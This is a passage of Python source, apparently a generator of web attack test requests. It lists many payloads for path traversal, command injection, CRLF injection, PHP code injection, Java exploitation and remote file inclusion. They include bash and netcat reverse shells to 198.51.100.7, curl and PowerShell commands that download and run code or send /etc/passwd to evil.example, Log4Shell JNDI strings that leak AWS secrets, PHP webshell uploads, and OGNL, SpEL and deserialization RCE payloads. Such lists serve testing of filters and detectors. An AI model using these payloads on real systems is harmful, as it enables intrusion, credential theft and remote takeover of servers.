    P("query", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd", "fully encoded dots and slashes", param="path", raw=True)
    P("query", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd", "double encoded", param="doc", raw=True)
    P("query", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd", "overlong utf-8 slash", param="file", raw=True)
    P("query", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "overlong utf-8 dot", param="file", raw=True)
    P("query", "....//....//....//etc/passwd", "strip-once bypass", param="template")
    P("query", "..\\..\\..\\..\\windows\\win.ini", "windows backslashes", param="file")
    P("query", "/etc/passwd", "absolute path no dots", param="file", enc="browser")
    P("query", "/proc/self/environ", "procfs environ", param="page", enc="browser")
    P("query", "C:\\Windows\\System32\\drivers\\etc\\hosts", "windows absolute path", param="path")
    P("query", "../../../../etc/shadow%00.png", "null byte extension truncation", param="img", raw=True)
    P("query", "..%5c..%5c..%5c..%5cboot.ini", "encoded backslash", param="file", raw=True)
    P("query", "..;/..;/..;/WEB-INF/web.xml", "tomcat path param bypass", param="resource")
    P("query", "WEB-INF/web.xml", "java webapp descriptor no dots", param="page", path="/download.jsp", enc="browser")
    P("query", "/var/log/apache2/access.log", "log file read", param="page", enc="browser")
    P("query", "..././..././..././etc/passwd", "nested dot bypass", param="file")
    P("query", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini", "encoded windows", param="file", raw=True)
    P("query", "..%255c..%255c..%255cwindows%255cwin.ini", "double encoded backslash", param="name", raw=True)
    P("query", ".%2e/.%2e/.%2e/.%2e/etc/passwd", "half-encoded dots", param="file", raw=True)
    P("query", "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token", "k8s service account token", param="file")
    P("query", "/home/ubuntu/.aws/credentials", "aws credentials file", param="path", enc="browser")
    P("query", "..%c1%9c..%c1%9c..%c1%9cboot.ini", "overlong backslash", param="file", raw=True)
    P("query", "..\\/..\\/..\\/..\\/etc/passwd", "backslash-slash mix", param="file")
    P("query", "/root/.ssh/id_rsa", "ssh private key", param="file", enc="full")
    P("query", "../../config/database.yml", "rails db config", param="template")
    P("query", "../../../../etc/passwd", "fully percent-encoded", param="file", enc="full")
    P("query", "/usr/local/tomcat/conf/tomcat-users.xml", "tomcat users", param="f")
    P("query", "..%00/..%00/..%00/etc/passwd", "null in segments", param="file", raw=True)
    P("query_name", "../../../../etc/passwd", "traversal as param name (key file)", raw=False, enc="browser")
    P("path", "..%2f..%2f..%2f..%2fetc%2fpasswd", "encoded slash traversal in path", path="/static", raw=True)
    P("path", "%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd", "encoded dots in path", path="/assets", raw=True)
    P("path", ".git/config", "git config exposure", path="/", raw=True)
    P("path", ".env", "dotenv exposure", path="/", raw=True)
    P("path", "..;/manager/html", "tomcat ..; normalization", path="/app", raw=True)
    P("path", "%252e%252e%252f%252e%252e%252fetc%252fhosts", "double encoded path", path="/files", raw=True)
    P("path", "WEB-INF/classes/application.properties", "spring properties", path="/static/..;", raw=True)
    P("path", ".htpasswd", "htpasswd exposure", path="/admin", raw=True)
    P("path", "..%5c..%5c..%5cwindows%5cwin.ini", "backslash traversal path (IIS)", path="/scripts", raw=True)
    P("json", "../../../../etc/passwd", "json file field", param="file", path="/api/export")
    P("json", "../../../../etc/passwd", "json \\u002e\\u002e escapes", param="path", esc="./", path="/api/v1/attachments/read")
    P("json", "..\\..\\..\\..\\inetpub\\wwwroot\\web.config", "windows web.config", param="template", path="/api/render")
    P("form", "../../../../../../etc/passwd", "form template param", param="template", path="/admin/preview")
    P("form", "/proc/self/cmdline", "procfs cmdline via form", param="logfile", path="/admin/logs")
    P("multipart", "x", "traversal in upload filename", param="file", filename="../../../../var/www/html/shell.jsp", fvalue="hello", path="/api/upload")
    P("multipart", "x", "windows traversal filename", param="document", filename="..\\..\\..\\..\\Windows\\Temp\\x.aspx", fvalue="hello", path="/upload.aspx")
    P("xml", "../../../../etc/passwd", "xml path element", param="path", path="/api/files")
    P("xml", None, "XXE reading local file", path="/api/import", xml='<?xml version="1.0"?>\n<!DOCTYPE data [\n  <!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<data><name>&xxe;</name></data>', xraw=True)
    P("cookie", "../../../../etc/passwd%00", "cookie lang file include", param="lang")
    P("cookie", "..%2F..%2F..%2F..%2Fetc%2Fpasswd", "cookie template encoded", param="template")
    P("header", "../../../../etc/passwd", "traversal in custom filename header", hname="X-File-Name")
    P("header", "/../../../../../etc/passwd", "X-Original-URL override", hname="X-Original-URL")


def attacks_cmdi(B):
    c = "cmdi"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("query", "127.0.0.1; cat /etc/passwd", "semicolon chaining", param="host")
    P("query", "8.8.8.8 | id", "pipe", param="ip", enc="plus")
    P("query", "example.com && whoami", "and-chain", param="domain")
    P("query", "$(id)", "command substitution", param="host")
    P("query", "`uname -a`", "backtick substitution", param="host")
    P("query", ";wget http://203.0.113.5/x.sh -O /tmp/x.sh;sh /tmp/x.sh", "download and execute", param="ip")
    P("query", "x || curl -s http://evil.example/$(whoami)", "or-chain exfil", param="target")
    P("query", ";${IFS}cat${IFS}/etc/passwd", "IFS whitespace bypass", param="host", enc="browser")
    P("query", ";c'a't /e\"t\"c/pa??wd", "quote splitting and globbing", param="host")
    P("query", ";/bin/ca\\t /etc/pa\\sswd", "backslash splitting", param="host")
    P("query", "127.0.0.1\nid", "newline separator", param="ip")
    P("query", "; bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "bash reverse shell", param="host")
    P("query", "; nc -e /bin/sh 198.51.100.7 4444", "netcat reverse shell", param="host", enc="double")
    P("query", "& whoami", "windows ampersand", param="host", path="/cgi-bin/ping.exe")
    P("query", "& dir C:\\", "windows dir", param="host")
    P("query", "| type C:\\Windows\\win.ini", "windows type", param="file")
    P("query", "; echo aWQ7dW5hbWUgLWE= | base64 -d | sh", "base64 decode to sh", param="host")
    P("query", ";{cat,/etc/passwd}", "brace expansion no spaces", param="host", enc="full")
    P("query", "$(printf '\\x69\\x64')", "printf hex build", param="name")
    P("query", "| net user", "windows net user", param="host")
    P("query", "& certutil -urlcache -split -f http://evil.example/a.exe %TEMP%\\a.exe", "certutil download", param="host")
    P("query", ";python3 -c 'import os;os.system(\"id\")'", "python exec", param="filename")
    P("query", "; ping -c 10 127.0.0.1", "time delay via ping", param="host", enc="lower")
    P("query", "& ping -n 10 127.0.0.1 &", "windows delay ping", param="host")
    P("query", "| cmd /c whoami", "cmd /c", param="host")
    P("query", ";sleep 10;", "sleep", param="domain", enc="mix")
    P("query", "a;/???/??t /???/p??s??", "wildcard path obfuscation", param="host")
    P("query", ";sh${IFS}-c${IFS}id", "sh -c with IFS", param="host")
    P("query", "x|perl -e 'system(\"id\")'", "perl system", param="filename")
    P("query", "; nslookup $(whoami).evil.example", "dns exfil", param="domain")
    P("query", "^w^h^o^a^m^i", "cmd caret obfuscation", param="host", extra=[("x", "1")])
    P("query", "&c^m^d /c \"ver\"", "caret in cmd", param="host")
    P("query_name", ";id", "param name injection", enc="std")
    P("path", "file.txt;id", "semicolon in path segment", path="/api/convert")
    P("path", "%60id%60", "backticks in path", path="/cgi-bin/status", raw=True)
    P("path", "x%7C%7Cwhoami", "or-chain in path", path="/api/network/ping", raw=True)
    P("json", "8.8.8.8;cat /etc/shadow", "json host field", param="host", path="/api/network/ping")
    P("json", "`id`", "json backtick", param="filename", path="/api/convert", esc="`")
    P("json", "| powershell -nop -w hidden -c \"IEX(New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')\"", "powershell cradle", param="target")
    P("json", "; powershell -enc " + ps_enc("whoami; Get-Process"), "powershell -enc base64", param="host")
    P("form", "127.0.0.1|ls -la /", "form ping pipe", param="ip", path="/admin/diagnostics")
    P("form", "$(curl${IFS}-d${IFS}@/etc/passwd${IFS}evil.example)", "curl exfil with IFS", param="host")
    P("form", "x & powershell -c \"iwr http://evil.example/x -OutFile $env:TEMP\\x.exe; & $env:TEMP\\x.exe\"", "powershell download-run", param="target")
    P("form", ";awk 'BEGIN{system(\"id\")}'", "awk system", param="domain")
    P("multipart", "x", "command in upload filename", param="file", filename="photo.jpg;curl evil.example|sh", fvalue="JFIF", path="/api/convert")
    P("multipart", "a.pdf$(id)", "multipart output name", param="output", path="/api/convert", extra=[("format", "pdf")])
    P("xml", "127.0.0.1; id", "xml host element", param="host", path="/api/network/ping")
    P("header", "() { :; }; /bin/bash -c 'cat /etc/passwd'", "shellshock in custom header", hname="X-Device-Id", path="/cgi-bin/status")
    P("user_agent", "() { ignored; }; echo; /usr/bin/id", "shellshock UA", path="/cgi-bin/test.cgi")
    P("referer", "() { :;}; /bin/sh -c \"nc 198.51.100.7 4444 -e /bin/sh\"", "shellshock referer", path="/cgi-bin/index.cgi")
    P("cookie", e(";cu''rl evil.example|sh"), "empty quotes obfuscation in cookie", param="device")
    P("cookie", "x%26%26who%24%40ami", "who$@ami obfuscation", param="host")


def attacks_crlf(B):
    c = "crlf"

    def P(loc, pl, note, **kw):
        kw.setdefault("raw", True)
        place(B, c, loc, pl, note, **kw)
    P("query", "/home%0d%0aSet-Cookie:%20admin=true", "set-cookie via redirect param", param="next")
    P("query", "%0d%0aLocation:%20http://evil.example", "location injection", param="url")
    P("query", "x%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200%20OK%0D%0AContent-Type:%20text/html%0D%0A%0D%0A%3Chtml%3Eowned%3C/html%3E", "response splitting", param="lang")
    P("query", "en%0aSet-Cookie:x=1", "LF only", param="lang", path="/set-language")
    P("query", "en%0dSet-Cookie:x=1", "CR only", param="lang", path="/set-language")
    P("query", "/%250d%250aSet-Cookie:x=1", "double encoded crlf", param="next")
    P("query", "/x%E5%98%8A%E5%98%8DSet-Cookie:x=1", "unicode U+560A/U+560D truncation", param="return_to")
    P("query", "/x%C4%8D%C4%8ASet-Cookie:%20a=b", "latin-1 truncation U+010D/U+010A", param="next")
    P("query", "/a%0d%0a%0d%0a%3Cscript%3Ealert(1)%3C/script%3E", "body injection after double crlf", param="next")
    P("query", "%0d%0aAccess-Control-Allow-Origin:%20*", "CORS header injection", param="callback", path="/api/jsonp")
    P("query", "%0d%0aX-XSS-Protection:0%0d%0a%0d%0a%3Csvg%20onload=alert(1)%3E", "disable xss filter + body", param="url")
    P("query", "%5Cr%5CnSet-Cookie:x=1", "literal backslash-r-n escape", param="ref")
    P("query", "%2F%0D%0ASet-Cookie%3A%20sessionid%3Dattacker%3B%20Domain%3D.example.com", "session fixation", param="redirect_uri", path="/oauth/callback")
    P("query", "%0d%0aRefresh:%200;url=http://evil.example", "refresh header", param="next")
    P("query", "%0d%0aContent-Type:%20text/html", "content-type override", param="format", path="/api/export")
    P("query", "%0D%0a%20Set-Cookie:%20folded=1", "mixed case hex with folding space", param="next")
    P("query", "victim@example.com%0d%0aBcc:%20everyone@evil.example", "SMTP header injection", param="email", path="/contact")
    P("query", "Hello%0aBcc:list@evil.example", "SMTP subject LF injection", param="subject", path="/contact")
    P("query", "admin%0d%0a[2024-05-01%2012:00:00]%20INFO%20login%20success%20user=admin", "log forging", param="user", path="/login")
    P("query", "%0d%0aCache-Control:%20public,%20max-age=31536000", "cache poisoning header", param="lang")
    P("query", "en%0D%0ALink:%20%3Chttps://evil.example/s.css%3E;rel=stylesheet", "link header injection", param="lang")
    P("query", "%3f%0d%0aLocation:%0d%0aContent-Type:text/html%0d%0aX-XSS-Protection%3a0%0d%0a%0d%0a%3Cscript%3Ealert%28document.domain%29%3C/script%3E", "empty location + body", param="next")
    P("query", "%0d%0aX-Forwarded-For:%20127.0.0.1", "injected XFF", param="ref")
    P("query", "%0d%0a%09Set-Cookie:tab=1", "tab folded", param="next")
    P("query_name", "%0d%0aSet-Cookie:a=b", "crlf in param name")
    P("query_name", "x%0d%0aLocation:http://evil.example=1", "crlf in param name with location")
    P("path", "%0d%0aSet-Cookie:crlf=injection", "path root crlf", path="/")
    P("path", "%0D%0AX-Injected:%20yes", "path redirect crlf", path="/redirect")
    P("path", "en%0aContent-Security-Policy:%20default-src%20*", "LF in path", path="/i18n")
    P("path", "%E5%98%8A%E5%98%8DLocation:%20http://evil.example", "unicode crlf in path", path="/go")
    P("path", "%250d%250aSet-Cookie:a=1", "double encoded path crlf", path="/r")
    P("json", "/dashboard\r\nSet-Cookie: sid=attacker", "json next with CRLF", param="next", path="/api/login", raw=False)
    P("json", "a\r\nX-Admin: 1", "json \\u000d\\u000a escapes", param="header_value", esc="\r\n", path="/api/track", raw=False)
    P("json", "victim@example.com\nBcc: spam@evil.example", "json email header injection", param="email", path="/api/newsletter", raw=False)
    P("form", "%2F%0D%0ALocation%3A+https%3A%2F%2Fevil.example", "form return_to", param="return_to", path="/login")
    P("form", "Hi%0d%0aCc:%20x@evil.example", "form mail subject", param="subject", path="/contact")
    P("form", "%0ASet-Cookie%3A+x%3D1", "form LF set-cookie", param="lang", path="/set-language")
    P("multipart", "/x\r\nSet-Cookie: a=b", "multipart field with raw CRLF header", param="next", path="/api/profile", raw=False)
    P("multipart", "hello\r\nBcc: all@evil.example", "multipart email subject injection", param="subject", path="/contact", raw=False)
    P("xml", "/x&#13;&#10;Set-Cookie: a=b", "xml numeric char refs CRLF", param="returnUrl", xraw=True, path="/api/sso")
    P("xml", "user@example.com&#x0d;&#x0a;Bcc: x@evil.example", "xml hex refs mail header", param="to", xraw=True, path="/api/mail")
    P("header", "evil.example%0d%0aX-Injected:%20yes", "encoded crlf in X-Forwarded-Host", hname="X-Forwarded-Host")
    P("header", "/ok%0d%0aSet-Cookie:%20a=b", "redirect header", hname="X-Return-To")
    P("user_agent", "Mozilla/5.0%0d%0aX-Injected: 1", "encoded CRLF in UA")
    P("referer", "https://example.com/%0d%0aSet-Cookie:%20x=1", "referer crlf")
    P("cookie", "en%0d%0aSet-Cookie:%20admin=1", "cookie crlf", param="lang")
    P("cookie", "%0d%0aLocation:%20//evil.example", "cookie location", param="return")
    P("query", "%u000d%u000aSet-Cookie:x".replace("%u", "%25u"), "IIS %u style sent encoded", param="next")
    P("query", "%%0d0d%%0a0aSet-Cookie:x=1".replace("%%", "%25"), "nested percent trick", param="next")
    P("query", "x%0d%0aSet-Cookie:%20a%3Db%0d%0aSet-Cookie:%20c%3Dd", "two injected cookies", param="next")


if __name__ == "__main__" and "--attacks-only" in sys.argv:
    pass


def attacks_php(B):
    c = "php"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("multipart", "x", "webshell upload disguised as image", param="avatar", filename="avatar.php.jpg",
      fvalue="GIF89a\r\n<?php system($_GET['c']); ?>", path="/upload.php")
    P("multipart", "x", "short open tag shell in .phtml", param="file", filename="notes.phtml", fvalue="<?=`$_GET[x]`?>", path="/upload.php")
    P("multipart", "<?php eval($_POST['z']); ?>", "php code in text field", param="description", path="/upload.php")
    P("multipart", "phar://./uploads/avatar.jpg/test.txt", "phar deserialization trigger", param="image_path", path="/api/render")
    P("query", "php://filter/convert.base64-encode/resource=index.php", "php filter source disclosure", param="page")
    P("query", "php://filter/read=string.rot13/resource=config.php", "rot13 filter", param="file", enc="browser")
    P("query", "php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7/resource=/etc/passwd", "iconv filter chain", param="page")
    P("query", "pHp://FilTer/convert.base64-encode/resource=../wp-config.php", "mixed case wrapper", param="view", enc="double")
    P("query", "php://input", "php input wrapper", param="page", method="POST")
    P("query", "data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWyJjIl0pOyA/Pg==", "data wrapper base64 code", param="file")
    P("query", "data:text/plain,<?php phpinfo();?>", "data wrapper plain", param="page")
    P("query", "expect://id", "expect wrapper", param="page")
    P("query", "zip://uploads/avatar.jpg#shell.php", "zip wrapper", param="file")
    P("query", "compress.zlib://../../../../var/www/html/config.php", "zlib wrapper", param="file", enc="browser")
    P("query", "glob:///var/www/html/*.php", "glob wrapper listing", param="dir")
    P("query", "${@phpinfo()}", "complex curly syntax eval", param="code")
    P("query", "system('id');", "direct code eval", param="code", path="/api/render")
    P("query", "eval(base64_decode('c3lzdGVtKCJpZCIpOw=='));", "eval base64", param="cmd", enc="full")
    P("query", "assert($_REQUEST['x'])", "assert", param="check")
    P("query", "call_user_func('system','id')", "call_user_func", param="callback")
    P("query", "$f='sys'.'tem';$f('id');", "variable function concat", param="code", enc="mix")
    P("query", "'.system('id').'", "string concat breakout", param="name")
    P("query", "\";system('id');//", "double-quote breakout", param="name")
    P("query", "array_map('sys'.'tem',array('whoami'))", "array_map callback", param="code")
    P("query", "{${passthru(chr(105).chr(100))}}", "chr-built command", param="input")
    P("query", ";die(md5(31337));", "scanner probe", param="x", enc="plus")
    P("query", "create_function('','system(\"id\");')", "create_function", param="fn")
    P("query", "/.*/e", "preg_replace /e modifier", param="pattern", extra=[("replacement", "system('id')"), ("subject", "x")])
    P("query_name", "-d allow_url_include=1 -d auto_prepend_file=php://input", "php-cgi argument injection", enc="plus", path="/index.php")
    P("query_name", "%ADd+allow_url_include%3d1+%ADd+auto_prepend_file%3dphp://input", "soft-hyphen cgi argument injection", raw=True, path="/php-cgi/php-cgi.exe")
    P("query_name", "<?php system('id'); ?>", "php tag as param name", path="/index.php")
    P("path", "php%3A%2F%2Ffilter%2Fconvert.base64-encode%2Fresource%3Dindex", "wrapper in path segment", path="/view", raw=True)
    P("path", "%3C%3Fphp%20phpinfo()%3B%3F%3E", "php tag in path (log poisoning)", path="/", raw=True)
    P("json", "O:8:\"stdClass\":1:{s:7:\"isAdmin\";b:1;}", "serialized object in json", param="prefs", path="/api/settings")
    P("json", "a:2:{i:0;O:7:\"Exploit\":1:{s:3:\"cmd\";s:2:\"id\";}i:1;s:1:\"x\";}", "serialized array with object", param="state")
    P("json", "file_put_contents('s.php','<?php eval($_POST[1]);?>')", "file write", param="expr", path="/api/render", esc="<>?")
    P("form", "<?php passthru($_GET['c']); ?>", "form code injection", param="template_body", path="/admin/settings.php")
    P("form", "shell_exec($_GET[0])", "shell_exec", param="formula")
    P("form", "O:+4:\"User\":2:{s:4:\"name\";s:5:\"admin\";s:4:\"role\";s:5:\"admin\";}", "serialized with O:+ sign bypass", param="data")
    P("form", "<script language=\"php\">system(\"id\");</script>", "php script tag", param="content", path="/admin/settings.php")
    P("form", "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"id\")}}", "twig SSTI to exec", param="template", path="/api/render")
    P("form", "pcntl_exec('/bin/sh',array('-c','id'));", "pcntl_exec", param="code")
    P("xml", "<?php echo file_get_contents('/etc/passwd'); ?>", "php code in xml element", param="note", path="/api/render")
    P("xml", "php://filter/convert.base64-encode/resource=/var/www/html/.env", "XXE via php filter", path="/api/import", xraw=True,
      xml='<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=/var/www/html/.env">]>\n<r><q>&x;</q></r>')
    P("cookie", e('O:4:"User":2:{s:8:"username";s:5:"admin";s:7:"isAdmin";b:1;}'), "serialized object cookie", param="user")
    P("cookie", b64('a:1:{s:4:"auth";O:12:"SessionToken":1:{s:4:"file";s:11:"/etc/passwd";}}'), "base64 serialized cookie", param="remember")
    P("cookie", "php%3A%2F%2Ffilter%2Fresource%3D..%2Fconfig.php", "wrapper in cookie", param="lang")
    P("user_agent", "<?php system($_GET['cmd']); ?>", "log poisoning UA")
    P("referer", "http://example.com/<?php passthru($_REQUEST['x']);?>", "log poisoning referer")
    P("header", "<?=`id`?>", "short echo backtick in header", hname="X-Debug")
    P("header", "highlight_file('/etc/passwd');", "highlight_file header eval", hname="X-Custom")


def attacks_java(B):
    c = "java"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("user_agent", "${jndi:ldap://evil.example:1389/a}", "log4shell UA")
    P("header", "${jndi:rmi://198.51.100.7:1099/Exploit}", "log4shell rmi in X-Api-Version", hname="X-Api-Version")
    P("header", "${${lower:j}ndi:${lower:l}dap://evil.example/x}", "lower lookups", hname="X-Forwarded-For")
    P("header", "${${::-j}${::-n}${::-d}${::-i}:${::-l}${::-d}${::-a}${::-p}://evil.example/a}", "default-value lookups", hname="X-Request-Id")
    P("header", "${${env:BARFOO:-j}ndi${env:BARFOO:-:}${env:BARFOO:-l}dap${env:BARFOO:-:}//evil.example/a}", "env default obfuscation", hname="True-Client-IP")
    P("header", "${jndi:dns://${env:AWS_SECRET_ACCESS_KEY}.evil.example}", "dns exfil of env", hname="X-Correlation-Id")
    P("user_agent", "${${upper:j}ndi:ldaps://evil.example/a}", "upper lookup ldaps")
    P("referer", "https://www.google.com/?q=${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/r}", "log4shell in referer query")
    P("cookie", "${j${k8s:k5:-ND}i:ldap://evil.example/}", "k8s lookup default", param="JSESSIONID")
    P("header", "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://evil.example/a}", "date lookup letters", hname="X-Api-Version")
    P("query", "${jndi:iiop://evil.example/a}", "iiop scheme", param="q")
    P("query", "${jndi:ldap://evil.example/a}", "double-encoded log4shell", param="q", enc="double")
    P("query", "${jndi:ldap://127.0.0.1#evil.example:1389/a}", "allowlist bypass with #", param="username", enc="full")
    P("query", "$%7Bjndi:ldap://evil.example/a%7D", "partial encoding", param="q", raw=True)
    P("query", "${${sys:os.name:-j}ndi:ldap://${hostName}.evil.example/x}", "sys lookup default + hostname", param="search")
    P("query_name", "${jndi:ldap://evil.example/qn}", "log4shell in parameter name", enc="std")
    P("path", "${jndi:ldap://evil.example/p}", "log4shell in path", path="/api/v1/events")
    P("json", "${jndi:ldap://evil.example/j}", "json unicode-escaped ${", param="username", esc="${}:/", path="/api/login")
    P("json", "${jndi:rmi://evil.example/obj}", "json message field", param="message", path="/api/v1/events")
    P("form", "${${lower:jn}${lower:di}:l${lower:da}p://evil.example/f}", "split lower lookups in form", param="username", path="/api/login")
    P("multipart", "x", "log4shell in upload filename", param="file", filename="${jndi:ldap://evil.example/fn}.pdf", fvalue="%PDF-1.4", path="/api/v1/documents")
    P("xml", "${jndi:ldap://evil.example/xml}", "log4shell in xml", param="username", path="/ws/login")
    P("cookie", b64(java_ser("org.apache.commons.collections4.functors.InvokerTransformer")), "base64 java serialized object (rO0AB) cookie", param="rememberMe")
    P("form", b64(java_ser("org.apache.commons.beanutils.BeanComparator")), "java serialized viewstate-like param", param="javax.faces.ViewState", path="/faces/login.xhtml")
    P("json", java_ser("java.util.PriorityQueue").hex(), "hex aced0005 serialized blob", param="payload", path="/api/v1/jobs")
    P("header", b64(java_ser("sun.reflect.annotation.AnnotationInvocationHandler")), "serialized object in header", hname="X-Session")
    P("query", "%{(#cmd='id').(#p=new java.lang.ProcessBuilder({'/bin/sh','-c',#cmd})).(#p.redirectErrorStream(true)).(#p.start())}", "struts OGNL ProcessBuilder", param="redirect", path="/struts/index.action")
    P("query", "${#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('id')}", "OGNL context manipulation", param="action", path="/struts/index.action")
    P("query_name", "redirect:${#a=@java.lang.Runtime@getRuntime().exec('id')}", "struts redirect: prefix", path="/login.action", enc="std")
    P("header", "%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('id'))}", "OGNL in custom header", hname="X-Struts-Type", path="/struts/upload.action")
    P("query", "T(java.lang.Runtime).getRuntime().exec('id')", "SpEL Runtime", param="expr")
    P("query", "#{T(java.lang.Runtime).getRuntime().exec('touch /tmp/pwn')}", "SpEL #{ }", param="name", enc="plus")
    P("json", "${T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('id').getInputStream())}", "SpEL output read", param="expr", path="/api/eval")
    P("header", "T(java.lang.Runtime).getRuntime().exec(\"touch /tmp/x\")", "spring cloud function routing-expression", hname="spring.cloud.function.routing-expression", path="/functionRouter", method="POST")
    P("form", "%{prefix}i", "spring4shell class loader pattern", param="class.module.classLoader.resources.context.parent.pipeline.first.pattern", path="/app/greeting",
      extra=[("class.module.classLoader.resources.context.parent.pipeline.first.suffix", ".jsp"),
             ("class.module.classLoader.resources.context.parent.pipeline.first.directory", "webapps/ROOT")])
    P("query_name", "class.module.classLoader.URLs[0]", "classloader binding via param name", fvalue="0", path="/app/search")
    P("query", "${''.getClass().forName('java.lang.Runtime').getMethod('exec',''.getClass()).invoke(''.getClass().forName('java.lang.Runtime').getRuntime(),'id')}", "EL reflection", param="msg", path="/app/search")
    P("form", "${pageContext.request.getSession().setAttribute(\"admin\",true)}", "JSP EL session tamper", param="comment")
    P("path", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x", "thymeleaf view-name injection", path="/app/doc")
    P("form", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"id\")}", "freemarker Execute", param="template", path="/api/render")
    P("form", "#set($x=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"id\"))$x", "velocity runtime exec", param="template", path="/api/render")
    P("xml", None, "XStream dynamic-proxy EventHandler", path="/api/v1/orders", xml=(
        '<sorted-set>\n  <dynamic-proxy>\n    <interface>java.lang.Comparable</interface>\n'
        '    <handler class="java.beans.EventHandler">\n      <target class="java.lang.ProcessBuilder">\n'
        '        <command><string>/bin/sh</string><string>-c</string><string>id</string></command>\n'
        '      </target>\n      <action>start</action>\n    </handler>\n  </dynamic-proxy>\n</sorted-set>'))
    P("xml", None, "java XMLDecoder ProcessBuilder", path="/wls-wsat/CoordinatorPortType", ct="text/xml", xml=(
        '<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">\n<soapenv:Header>\n'
        '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/">\n'
        '<java version="1.8" class="java.beans.XMLDecoder"><object class="java.lang.ProcessBuilder">'
        '<array class="java.lang.String" length="3"><void index="0"><string>/bin/bash</string></void>'
        '<void index="1"><string>-c</string></void><void index="2"><string>id</string></void></array>'
        '<void method="start"/></object></java>\n</work:WorkContext>\n</soapenv:Header>\n<soapenv:Body/>\n</soapenv:Envelope>'))
    P("xml", None, "XStream with entity-obfuscated class name", path="/api/v1/orders", xml=(
        '<map>\n  <entry>\n    <jdk.nashorn.internal.objects.NativeString>\n      <value class="com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data">\n'
        '        <dataHandler><dataSource class="com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource">'
        '<is class="javax.crypto.CipherInputStream"><cipher class="javax.crypto.NullCipher"><serviceIterator class="javax.imageio.spi.FilterIterator">'
        '<iter class="java.util.ArrayList$Itr"/><next class="' + xent("java.lang.ProcessBuilder") + '"><command><string>id</string></command></next>'
        '</serviceIterator></cipher></is></dataSource></dataHandler>\n      </value>\n    </jdk.nashorn.internal.objects.NativeString>\n  </entry>\n</map>'))
    P("json", None, "fastjson autotype JdbcRowSetImpl", path="/api/v1/events",
      jobj=OrderedDict([("@type", "com.sun.rowset.JdbcRowSetImpl"), ("dataSourceName", "rmi://evil.example:1099/Exploit"), ("autoCommit", True)]))
    P("json", None, "fastjson @type with \\u escapes", path="/api/v1/events", esc="@.",
      jobj=OrderedDict([("a", OrderedDict([("@type", "java.lang.Class"), ("val", "com.sun.rowset.JdbcRowSetImpl")])),
                        ("b", OrderedDict([("@type", "com.sun.rowset.JdbcRowSetImpl"), ("dataSourceName", "ldap://evil.example/b"), ("autoCommit", True)]))]))
    P("json", None, "jackson default typing gadget array", path="/api/v1/config", method="PUT",
      jobj={"handler": ["org.springframework.context.support.ClassPathXmlApplicationContext", "http://evil.example/beans.xml"]})
    P("query", "${script:javascript:java.lang.Runtime.getRuntime().exec('id')}", "commons-text script lookup", param="name")
    P("json", "${url:UTF-8:http://evil.example/x}", "commons-text url lookup", param="template", path="/api/v1/messages")
    P("header", "${dns:address|evil.example}", "commons-text dns lookup", hname="X-Forwarded-For")
    P("cookie", e("%{#a=(new java.lang.ProcessBuilder(new java.lang.String[]{\"id\"})).start()}"), "OGNL in cookie", param="pref")
    P("multipart", "@java.lang.Runtime@getRuntime().exec('id')", "OGNL static call in multipart field", param="name", path="/struts/upload.action")


def attacks_rfi(B):
    c = "rfi"

    def P(loc, pl, note, **kw):
        place(B, c, loc, pl, note, **kw)
    P("query", "http://evil.example/shell.txt", "plain http include", param="page", enc="browser")
    P("query", "http://evil.example/shell.txt?", "trailing ? to drop suffix", param="page")
    P("query", "https://203.0.113.9/c99.txt\x00", "null byte suffix", param="file", enc="browser")
    P("query", "ftp://anonymous@evil.example/shell.php", "ftp include", param="include")
    P("query", "\\\\198.51.100.7\\share\\shell.php", "UNC smb include", param="lang")
    P("query", "http://evil.example/x.txt#", "trailing fragment", param="path")
    P("query", "hTTp://eViL.example/a.php", "mixed case scheme", param="module")
    P("query", "http:%2F%2Fevil.example%2Fa.txt", "encoded slashes", param="page", raw=True)
    P("query", "http://evil.example/shell.txt?", "joomla-style absolute path var", param="mosConfig_absolute_path", path="/components/com_x/x.php")
    P("query", "http://0xcb007109/shell.txt", "hex ip host", param="inc")
    P("query", "http://3405803785/r57.txt?", "decimal ip host", param="page")
    P("query", "https://raw.githubusercontent.com/attacker/tools/main/s.php", "raw github hosted shell", param="load")
    P("query", "HTTP://EVIL.EXAMPLE/SHELL.TXT", "uppercase", param="file", enc="full")
    P("query", "ftps://evil.example/inc.php", "ftps", param="conf")
    P("query", "http://198.51.100.7:8080/x.txt", "ip with port", param="class_path")
